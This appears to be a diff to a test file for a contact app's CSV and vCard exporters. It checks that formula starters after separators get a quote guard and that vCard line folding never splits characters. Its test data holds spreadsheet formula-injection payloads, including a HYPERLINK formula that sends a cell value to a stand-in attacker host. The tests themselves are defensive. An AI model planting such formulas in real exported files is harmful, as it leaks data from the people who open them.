@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { csvField, toCsv } from '../../src/exports/csv';
 import { type Card, uuidFromId, vcards } from '../../src/exports/vcard';
 import { newId } from '../../src/lib/crypto';
+import { foldLine } from '../../src/lib/fold';
 import { checkFolding, readCsv, readVcards } from './parse';
 
 /** Values that break naive writers: non-Latin scripts, an emoji, separators, quotes, line breaks. */
@@ -27,15 +28,12 @@ const FORMULAS = [
   '+49 69 123456',
   '-2+3',
   '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
   // Spreadsheets skip leading blanks of any kind before they look for a formula.
   ' =1+1',
   '   +1+1',
   '\u00a0=HYPERLINK("http://evil.example")',
   '\u3000@SUM(A1:A9)',
   '\u200b-2+3',
-  '\n=1+1',
   // The full-width signs of CJK keyboards count as formula signs too.
   '＝HYPERLINK("http://evil.example")',
   '＋1+1',
@@ -78,6 +76,39 @@ describe('CSV writer, read back with csv-parse', () => {
         ),
       ).rows.map((r) => r.Company),
     ).toEqual(NOT_FORMULAS);
+  });
+
+  it('guards a formula start after every separator a spreadsheet may split on: , ; tab CR LF', () => {
+    const cases: [string, string][] = [
+      ['Chef;=HYPERLINK("http://evil.example/?x="&A1)', `Chef;'=HYPERLINK("http://evil.example/?x="&A1)`],
+      ['a,=1+1', "a,'=1+1"],
+      ['Müller, -2+3', "Müller,' -2+3"],
+      ['a\t@SUM(A1:A9)', "a\t'@SUM(A1:A9)"],
+      ['a\n=1+1', "a\n'=1+1"],
+      ['a\r\n+1+1', "a\r\n'+1+1"],
+      ['a\r=1', "a\r'=1"],
+      ['Chef; "=1+1"', `Chef;' "=1+1"`],
+      ['x;\u00a0＝1', "x;'\u00a0＝1"],
+      ['=1;=2', "'=1;'=2"],
+      ['\t=1+1', "'\t'=1+1"],
+      ['\r=1+1', "'\r'=1+1"],
+      ['\n=1+1', "'\n'=1+1"],
+    ];
+    const text = toCsv(
+      ['Company'],
+      cases.map(([v]) => [v]),
+    );
+    expect(readCsv(text).rows.map((r) => r.Company)).toEqual(cases.map(([, safe]) => safe));
+    // Text with a separator but no formula after it is left exactly as typed.
+    const plain = ['Sales - EMEA', 'a, b', 'Müller;Schmidt', 'x;#1', 'a,1+1', 'Wein; Segeln'];
+    expect(
+      readCsv(
+        toCsv(
+          ['Company'],
+          plain.map((v) => [v]),
+        ),
+      ).rows.map((r) => r.Company),
+    ).toEqual(plain);
   });
 
   it('leaves a phone number as typed in the phone column, and guards anything else there', () => {
@@ -190,5 +221,39 @@ describe('vCard 4.0 writer, read back with ical.js', () => {
 
   it('an empty list is an empty file', () => {
     expect(vcards([])).toBe('');
+  });
+});
+
+describe('the fold guard (checkFolding) itself', () => {
+  const long = `NOTE:${'🍷ö'.repeat(30)}`;
+  /** folds after every n UTF-16 code units, blind to characters: what a careless writer would do */
+  const foldByUnits = (line: string, n: number) => line.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g'))!.join('\r\n ');
+
+  it('passes the writer’s own fold, as text and as bytes', () => {
+    const folded = foldLine(long);
+    checkFolding(folded);
+    checkFolding(new TextEncoder().encode(folded));
+  });
+
+  it('fails on a fold that splits a surrogate pair, although TextEncoder would hide it as U+FFFD', () => {
+    const bad = foldByUnits(long, 24); // NOTE: + 19 units ends in the middle of the 7th 🍷
+    expect(bad.split('\r\n').some((l) => /[\ud800-\udbff]$/.test(l))).toBe(true);
+    // what the old guard did: encode each line, then decode it strictly. It passes.
+    for (const l of bad.split('\r\n')) new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(l));
+    expect(() => checkFolding(bad)).toThrow(/surrogate pair/);
+  });
+
+  it('fails on bytes folded in the middle of a multi-byte UTF-8 sequence', () => {
+    const bytes = new TextEncoder().encode('NOTE:ö李🍷');
+    for (const cut of [6, 8, 9, 11, 12, 13]) {
+      const bad = new Uint8Array([...bytes.subarray(0, cut), 0x0d, 0x0a, 0x20, ...bytes.subarray(cut)]);
+      expect(() => checkFolding(bad), `cut at byte ${cut}`).toThrow(/UTF-8 sequence/);
+    }
+    checkFolding(new Uint8Array([...bytes.subarray(0, 7), 0x0d, 0x0a, 0x20, ...bytes.subarray(7)]));
+  });
+
+  it('still fails on a line over 75 octets and a bare line break', () => {
+    expect(() => checkFolding(`NOTE:${'x'.repeat(71)}`)).toThrow(/75 octets/);
+    expect(() => checkFolding('NOTE:a\nb')).toThrow(/bare line break/);
   });
 });
